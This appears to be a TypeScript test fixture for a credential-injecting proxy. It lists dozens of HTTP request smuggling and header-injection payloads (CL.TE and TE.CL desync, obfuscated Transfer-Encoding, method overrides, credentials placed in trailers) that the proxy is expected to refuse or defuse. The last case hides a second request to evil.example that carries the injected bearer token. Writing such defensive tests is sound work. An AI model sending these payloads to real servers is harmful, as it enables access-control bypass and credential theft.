import type { AttackCase } from "./case.ts";

const host = "api.github.com";
const auth = `Host: ${host}\r\nAuthorization: Bearer {github}\r\n`;
const inner = `GET /smuggled HTTP/1.1\r\nHost: ${host}\r\n\r\n`;

const shape = (title: string, text: string, outcome: AttackCase["outcome"] = "refused"): AttackCase => ({
  class: "smuggling",
  title,
  attack: { kind: "tunnel", to: `${host}:443`, text },
  outcome,
});
const post = (headers: string, body: string): string => `POST /user HTTP/1.1\r\n${auth}${headers}\r\n${body}`;
const get = (line: string): string => `GET /user HTTP/1.1\r\n${auth}${line}Connection: close\r\n\r\n`;

/** Shapes that two servers in a row have been known to read as different requests. */
export const smugglingCases: readonly AttackCase[] = [
  ...(
    [
      ["a length and chunks (CL.TE)", "Content-Length: 6\r\nTransfer-Encoding: chunked\r\n", "0\r\n\r\nX"],
      ["chunks and a length (TE.CL)", "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n", "5c\r\nGET\r\n0\r\n\r\n"],
      ["two equal lengths", "Content-Length: 3\r\nContent-Length: 3\r\n", "abc"],
      ["two different lengths", "Content-Length: 0\r\nContent-Length: 44\r\n", inner],
      ["a list of lengths", "Content-Length: 3, 3\r\n", "abc"],
      ["a negative length", "Content-Length: -1\r\n", "abc"],
      ["a length with a sign", "Content-Length: +3\r\n", "abc"],
      ["a length in hexadecimal", "Content-Length: 0x3\r\n", "abc"],
      ["a length with a fraction", "Content-Length: 3.0\r\n", "abc"],
      ["a length with letters behind it", "Content-Length: 3x\r\n", "abc"],
      ["an endless length", "Content-Length: 99999999999999999999\r\n", "abc"],
      ["an empty length", "Content-Length: \r\n", inner],
      ["two transfer codings", "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n", "0\r\n\r\n"],
      ["a coding before chunked", "Transfer-Encoding: gzip, chunked\r\n", "0\r\n\r\n"],
      ["a coding behind chunked", "Transfer-Encoding: chunked, identity\r\n", "0\r\n\r\n"],
      ["chunked twice", "Transfer-Encoding: chunked, chunked\r\n", "0\r\n\r\n"],
      ["a misspelt coding", "Transfer-Encoding: xchunked\r\n", "0\r\n\r\n"],
      ["a quoted coding", 'Transfer-Encoding: "chunked"\r\n', "0\r\n\r\n"],
      ["a coding behind a vertical tab", "Transfer-Encoding: \x0bchunked\r\n", "0\r\n\r\n"],
      ["a coding with a NUL", "Transfer-Encoding: chunked\0\r\n", "0\r\n\r\n"],
      ["a coding with a bare carriage return", "Transfer-Encoding: chunked\rX: y\r\n", "0\r\n\r\n"],
      ["a space before the coding's colon", "Transfer-Encoding : chunked\r\n", "0\r\n\r\n"],
      ["a tab before the coding's colon", "Transfer-Encoding\t: chunked\r\n", "0\r\n\r\n"],
      ["a space before the length's colon", "Content-Length : 3\r\n", "abc"],
      ["a folded coding", "Transfer-Encoding:\r\n chunked\r\n", "0\r\n\r\n"],
      ["a header that hides the coding in its value", "X: y\nTransfer-Encoding: chunked\r\n", "0\r\n\r\n"],
      ["a length with an underscore", "Content_Length: 30\r\nContent-Length: 0\r\n", inner],
      ["a chunk whose size is signed", "Transfer-Encoding: chunked\r\n", "+3\r\nabc\r\n0\r\n\r\n"],
      ["a chunk whose size has a prefix", "Transfer-Encoding: chunked\r\n", "0x3\r\nabc\r\n0\r\n\r\n"],
      ["a chunk whose size is too large", "Transfer-Encoding: chunked\r\n", "ffffffffffffffffff\r\nabc"],
      ["a chunk whose line ends with a bare line feed", "Transfer-Encoding: chunked\r\n", "3\nabc\r\n0\r\n\r\n"],
      ["a chunk without its end of line", "Transfer-Encoding: chunked\r\n", "3\r\nabcX0\r\n\r\n"],
      ["a chunk extension with a line feed", "Transfer-Encoding: chunked\r\n", "3;a\nX\r\nabc\r\n0\r\n\r\n"],
    ] as const
  ).map(([what, headers, body]) =>
    // A broken chunk is seen only when it comes: the head is on its way, the request never becomes whole.
    shape(`A request has ${what}`, post(headers, body), what.startsWith("a chunk") ? "defused" : "refused"),
  ),
  ...(
    [
      ["a folded header", "X-A: 1\r\n 2\r\n"],
      ["a folded Authorization", "X-A:\r\n\tAuthorization: Bearer x\r\n"],
      ["a bare line feed as its line end", "X-A: 1\n"],
      ["a bare carriage return in a value", "X-A: 1\rX-B: 2\r\n"],
      ["a NUL in a value", "X-A: a\0b\r\n"],
      ["a NUL in a name", "X-\0A: b\r\n"],
      ["a header without a name", ": b\r\n"],
      ["a header without a colon", "X-A\r\n"],
      ["a name with a space", "X A: b\r\n"],
      ["a name with parentheses", "X(A): b\r\n"],
      ["a name with letters beyond ASCII", "X-\u00c4: b\r\n"],
      ["a control character in a value", "X-A: a\x07b\r\n"],
      ["a DEL in a value", "X-A: a\x7fb\r\n"],
      ["a line that begins with a space", " X-A: b\r\n"],
    ] as const
  ).map(([what, line]) => shape(`A request has ${what}`, get(line))),
  ...(
    [
      ["a bare line feed", `GET /user HTTP/1.1\nHost: ${host}\nAuthorization: Bearer {github}\n\n`],
      ["a space in its path", `GET /us er HTTP/1.1\r\n${auth}\r\n`],
      ["a tab in its path", `GET /us\ter HTTP/1.1\r\n${auth}\r\n`],
      ["a NUL in its path", `GET /user\0 HTTP/1.1\r\n${auth}\r\n`],
      ["a line feed in its path", `GET /user\nX: y HTTP/1.1\r\n${auth}\r\n`],
      ["no path", `GET HTTP/1.1\r\n${auth}\r\n`],
      ["no version", `GET /user\r\n${auth}\r\n`],
      ["a version of its own", `GET /user HTTP/1.2\r\n${auth}\r\n`],
      ["the version of HTTP/2", `GET /user HTTP/2.0\r\n${auth}\r\n`],
      ["the version in lower case", `GET /user http/1.1\r\n${auth}\r\n`],
      ["a method of its own", `FROB /user HTTP/1.1\r\n${auth}\r\n`],
      ["a method in lower case", `get /user HTTP/1.1\r\n${auth}\r\n`],
      ["a method with a colon", `GET: /user HTTP/1.1\r\n${auth}\r\n`],
      ["a path with a fragment", `GET /user#/repos HTTP/1.1\r\n${auth}\r\n`],
      ["a path that begins with a backslash", `GET \\user HTTP/1.1\r\n${auth}\r\n`],
      ["a path without its slash", `GET user HTTP/1.1\r\n${auth}\r\n`],
      ["HTTP/1.0 and chunks", `POST /user HTTP/1.0\r\n${auth}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n`],
      ["the preface of HTTP/2", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"],
    ] as const
  ).map(([what, text]) => shape(`A request has ${what}`, text)),
  shape(
    "An offer to go on in HTTP/2 without TLS",
    get("Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n"),
    "defused",
  ),
  shape(
    "A WebSocket to a host where a secret is injected",
    `GET /user HTTP/1.1\r\n${auth}Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: eA==\r\nSec-WebSocket-Version: 13\r\n\r\n`,
  ),
  shape("A Connection header that lists Authorization", get("Connection: authorization, keep-alive\r\n"), "defused"),
  shape("A Connection header that lists Host", get("Connection: host\r\n"), "defused"),
  shape(
    "A Connection header that lists a length",
    post("Connection: content-length\r\nContent-Length: 3\r\n", "abc"),
    "defused",
  ),
  shape(
    "A Connection header that lists the type of the body",
    get("Connection: content-type\r\nContent-Type: text/plain\r\n"),
  ),
  shape(
    "A Connection header that lists the coding of the body, amid others",
    get("Connection: keep-alive,\tContent-Encoding, x\r\nContent-Encoding: br\r\n"),
  ),
  shape("A Proxy-Connection header that lists Authorization", get("Proxy-Connection: authorization\r\n"), "defused"),
  shape("The proxy's own credentials inside the tunnel", get("{auth}"), "defused"),
  shape(
    "A trailer that carries a credential",
    post("Transfer-Encoding: chunked\r\nTrailer: Authorization\r\n", `0\r\nAuthorization: Bearer {foreign}\r\n\r\n`),
    "defused",
  ),
  shape(
    "A trailer that carries a placeholder",
    post("Transfer-Encoding: chunked\r\nTrailer: X-A\r\n", "0\r\nX-A: {github}\r\n\r\n"),
    "defused",
  ),
  shape("A method override by header", get("X-HTTP-Method-Override: DELETE\r\n")),
  shape("A method override by another header", get("X-HTTP-Method: PUT\r\n")),
  shape("A method override by a third header", get("X-Method-Override: DELETE\r\n")),
  shape("A method override by a header with underscores", get("X_HTTP_Method_Override: DELETE\r\n")),
  shape("A path override by a header with underscores", get("X_Original_URL: /user/keys\r\n")),
  shape("A method override in the query", get("").replace("/user", "/user?_method=DELETE")),
  shape("A method override in the query, encoded", get("").replace("/user", "/user?a=1&%5Fmethod=DELETE")),
  shape(
    "A second request hides behind a body of declared length zero",
    `${post("Content-Length: 0\r\n", "")}GET /admin HTTP/1.1\r\nHost: evil.example\r\nAuthorization: Bearer {github}\r\n\r\n`,
    "defused",
  ),
];
